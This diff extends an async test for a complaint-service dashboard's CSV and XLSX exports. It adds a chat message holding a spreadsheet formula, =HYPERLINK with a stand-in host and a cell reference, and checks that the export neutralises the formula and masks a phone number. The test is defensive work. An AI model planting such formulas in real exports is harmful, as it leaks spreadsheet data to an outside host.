@@ -31,6 +31,8 @@ async def test_a_supervisor_sees_the_figures_as_charts_and_exports_them(
     await file_complaint(rt)
     await say(rt, "<b>zzz qqq</b> bagaimana cara memelihara naga?", phone="+6281255500044")  # not in the standards
     await say(rt, "syarat kks hilang apa?", phone="+6281255500045")
+    await say(rt, '=HYPERLINK("http://x.example/?"&B3,"klik") bagaimana memelihara naga? wa 081234567890',
+              phone="+6281255500046")
     await rt.transact(lambda s: s.execute(update(Case).values(step=2)))
     token = await sign_in(client, rt, "kabid.tl", role="supervisor")
     data = (await client.get("/api/dashboard", headers=token)).json()
@@ -45,6 +47,8 @@ async def test_a_supervisor_sees_the_figures_as_charts_and_exports_them(
     assert "&lt;b&gt;zzz qqq&lt;/b&gt;" in page.text and "<b>zzz" not in page.text
     exported = await client.get("/admin/export.csv", params={"table": "tahap"})
     assert exported.status_code == 200 and exported.text.splitlines()[0] == "Tahap,Jumlah"
+    questions = (await client.get("/admin/export.csv", params={"table": "tak-terjawab"})).text
+    assert "'=HYPERLINK" in questions and "081234567890" not in questions  # never a formula; numbers masked
     book = load_workbook(io.BytesIO((await client.get("/admin/export.xlsx")).content))
     assert {"tahap", "sla", "ikm", "pesan", "layanan", "tak-terjawab"} <= set(book.sheetnames)
     assert book["tahap"].cell(3, 2).value == 1
